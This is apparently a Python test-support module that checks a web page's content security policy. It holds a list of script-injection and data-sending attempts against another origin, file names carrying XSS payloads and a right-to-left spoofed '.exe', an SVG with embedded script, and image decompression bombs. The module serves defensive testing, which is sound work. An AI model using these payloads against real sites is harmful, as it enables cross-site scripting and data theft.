"""What `page` does to the web page: scripts that try to break out, files that harm."""

from collections.abc import Iterable
from pathlib import Path

import cv2
import numpy as np
from PIL import Image, PngImagePlugin

from facemask.datasets.sample import draw_scene
from facemask.io.files import ROOT
from facemask.torture.corpus import bombs, png

# Run in the page as if it had been broken into. Each sets __pwned if it can run a script, or asks
# something of `elsewhere`, another origin. "add" makes an element, sets its attributes and puts it
# into the page; "html" puts text into the page as HTML.
ATTEMPTS = {
    "inline script": 'add("script", { textContent: "__pwned = 1" })',
    "inline handler": 'add("img", {}, { onerror: "__pwned = 1", src: "data:," })',
    "inline handler of an SVG": 'html("<svg onload=\'__pwned = 1\'></svg>")',
    "javascript: link": 'add("a", {}, { href: "javascript:void(__pwned = 1)" }).click()',
    "javascript: frame": 'add("iframe", {}, { src: "javascript:parent.__pwned = 1" })',
    "eval": '(0, eval)("__pwned = 1")',
    "new Function": 'new Function("globalThis.__pwned = 1")()',
    "setTimeout of text": 'setTimeout("__pwned = 1", 0)',
    "HTML with a script": 'html("<script>__pwned = 1</" + "script>")',
    "HTML with a handler": 'html("<img src=data:, onerror=\'__pwned = 1\'>")',
    "HTML with a refresh": 'html(`<meta http-equiv="refresh" content="0; url=${elsewhere}">`)',
    "HTML written": "document.write(`<script src=${elsewhere}></` + `script>`)",
    "HTML made by a range": (
        "document.body.append(document.createRange().createContextualFragment("
        '"<script>__pwned = 1</" + "script>"))'
    ),
    "script from elsewhere": 'add("script", {}, { src: elsewhere })',
    "module from elsewhere": "await import(elsewhere)",
    "script from data": 'add("script", {}, { src: "data:text/javascript,__pwned = 1" })',
    "script from a blob": 'add("script", {}, { src: blob })',
    "module from a blob": "await import(blob)",
    "worker from a blob": "new Worker(blob)",
    "worker from data": 'new Worker("data:text/javascript,0")',
    "shared worker from data": 'new SharedWorker("data:text/javascript,0")',
    "service worker from elsewhere": "await navigator.serviceWorker.register(elsewhere)",
    "image": 'add("img", { src: elsewhere })',
    "image set": 'add("img", { srcset: `${elsewhere} 2x` })',
    "image button": 'add("input", { type: "image", src: elsewhere })',
    "image of a style": "document.body.style.background = `url(${elsewhere})`",
    "image in an SVG": (
        'const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");'
        'const image = document.createElementNS("http://www.w3.org/2000/svg", "image");'
        'image.setAttribute("href", elsewhere); svg.append(image); document.body.append(svg)'
    ),
    "fetch": "await fetch(elsewhere)",
    "fetch without CORS": 'await fetch(elsewhere, { mode: "no-cors", method: "POST", body: "x" })',
    "XMLHttpRequest": (
        'const r = new XMLHttpRequest(); r.open("POST", elsewhere); r.send("x")'
    ),
    "WebSocket": 'new WebSocket(elsewhere.replace("http", "ws"))',
    "EventSource": "new EventSource(elsewhere)",
    "beacon": 'navigator.sendBeacon(elsewhere, "x")',
    "ping of a link": 'add("a", { ping: elsewhere, href: "#" }).click()',
    "form": 'add("form", { action: elsewhere, method: "POST" }).submit()',
    "iframe": 'add("iframe", { src: elsewhere })',
    "iframe from a blob": 'add("iframe", { src: blob })',
    "base": 'document.head.prepend(Object.assign(document.createElement("base"), '
            "{ href: elsewhere }))",
    "object": 'add("object", {}, { data: elsewhere })',
    "embed": 'add("embed", {}, { src: elsewhere })',
    "style sheet": 'add("link", { rel: "stylesheet", href: elsewhere })',
    "style text": 'add("style", { textContent: `body { background: url(${elsewhere}) }` })',
    "font": "await new FontFace('x', `url(${elsewhere})`).load()",
    "video": 'add("video", { src: elsewhere })',
    "audio": 'add("audio", { src: elsewhere })',
    "prefetch": 'add("link", { rel: "prefetch", href: elsewhere })',
    "preload": 'add("link", { rel: "preload", as: "image", href: elsewhere })',
    "module preload": 'add("link", { rel: "modulepreload", href: elsewhere })',
}  # fmt: skip
# In a task of its own: a script of the DevTools may do more than the page's policy allows.
HARNESS = """(async () => {
  const elsewhere = ADDRESS;
  const blob = URL.createObjectURL(new Blob(["globalThis.__pwned = 1"], {type: "text/javascript"}));
  const add = (name, properties, attributes = {}) => {
    const element = Object.assign(document.createElement(name), properties);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    return document.body.appendChild(element);
  };
  const html = (text) => document.body.insertAdjacentHTML("beforeend", text);
  const pause = () => new Promise((resolve) => setTimeout(resolve, 50));
  const blocked = [];
  const note = (event) => blocked.push(event.effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
  delete globalThis.__pwned;
  setTimeout(async () => {
    try {
      BODY;
    } catch (error) {
      blocked.push(error.name);
    }
  });
  for (let k = 0; k < 60 && !blocked.length; k++) await pause();
  await pause();
  document.removeEventListener("securitypolicyviolation", note);
  return { blocked, ran: "__pwned" in globalThis };
})()"""

NAMES = (
    "<img src=x onerror=window.__pwned=1>", '"><svg onload=window.__pwned=1>', "<b id=injected>b",
    "'-(window.__pwned=1)-'", "${window.__pwned=1}", "{{window.__pwned=1}}", "&lt;b&gt;",
    "javascript:window.__pwned=1", "<script>window.__pwned=1<", "\u202egpj.exe", "line\nbreak",
    "x" * 240,
)  # fmt: skip


def script(name: str, address: str) -> str:
    """The script of an attempt; it gives {"blocked": by what, "ran": whether a script ran}."""
    return HARNESS.replace("ADDRESS", f'"{address}"').replace("BODY", ATTEMPTS[name])


def photo(seed: int, width: int = 640, height: int = 480) -> Image.Image:
    """A drawn photo of four people."""
    scene, _ = draw_scene(np.random.default_rng(seed), faces=4, width=width, height=height)
    return Image.fromarray(scene)


def named_files(folder: Path, names: Iterable[str]) -> list[Path]:
    """Photos with HTML as their name and in the texts inside; and no photos, of the same names."""
    made = []
    small = photo(0)
    for text in names:
        exif = Image.Exif()
        for tag in (0x010E, 0x010F, 0x013B, 0x8298):  # description, maker, artist, copyright
            exif[tag] = text
        inside = PngImagePlugin.PngInfo()
        inside.add_itxt("Title", text, zip=True)
        inside.add_text("Comment", text)
        comment = text.encode()
        for end, options in ((".jpg", {"exif": exif, "comment": comment, "xmp": comment}),
                             (".png", {"exif": exif, "pnginfo": inside})):  # fmt: skip
            small.save(folder / (text + end), **options)
            made.append(folder / (text + end))
        (folder / f"{text}.gif").write_text(text, "utf-8")
        made.append(folder / f"{text}.gif")
    return made


def odd_files(folder: Path, large: bool) -> list[Path]:
    """Files that are no photos, hardly any, or too much of one.

    Args:
        large: with the ones that take long.
    """
    image = photo(0)
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>parent.__pwned = 1'
           '</script><image href="http://localhost:9/x" width="9" height="9"/></svg>')  # fmt: skip
    contents = {
        "empty.jpg": b"", "text.jpg": b"no photo", "script.svg": svg.encode(),
        "page.png": b"<script>__pwned = 1</script>",
        "wide.png": png(100_000, 10, rows=bytes(300_001 * 10)),
        "high.png": png(10, 100_000, rows=bytes(31 * 100_000)),
        "dot.png": png(1, 1, rows=bytes(4)), "line.png": png(40_000, 1, rows=bytes(120_001)),
        "header.png": bombs()["header of 60,000 x 60,000"](),
        "gif.gif": bombs()["large GIF"]() if large else b"GIF89a\xff\xff\xff\xff\0\0\0;",
    }  # fmt: skip
    if large:
        contents |= {f"{name}.bin".replace(" ", "-"): make() for name, make in bombs().items()}
    for name, content in contents.items():
        (folder / name).write_bytes(content)
    (folder / "drawn.heic").write_bytes((ROOT / "tests/photos/drawn.heic").read_bytes())
    image.save(folder / "good.jpg")
    cut = (folder / "good.jpg").read_bytes()
    (folder / "cut.jpg").write_bytes(cut[: len(cut) // 2])
    files = [folder / name for name in (*contents, "drawn.heic", "cut.jpg")]
    if large:
        image = photo(0, 1000, 1000).resize((10_000, 10_000))
        image.save(folder / "100 megapixels.jpg")
        files.append(folder / "100 megapixels.jpg")
    return files


def film(folder: Path) -> Path:
    """A film that Chromium can play as a webcam: a row of JPEG files."""
    frames = [np.asarray(photo(seed))[..., ::-1] for seed in range(10)]
    path = folder / "film.mjpeg"
    path.write_bytes(b"".join(cv2.imencode(".jpg", frame)[1].tobytes() for frame in frames))
    return path
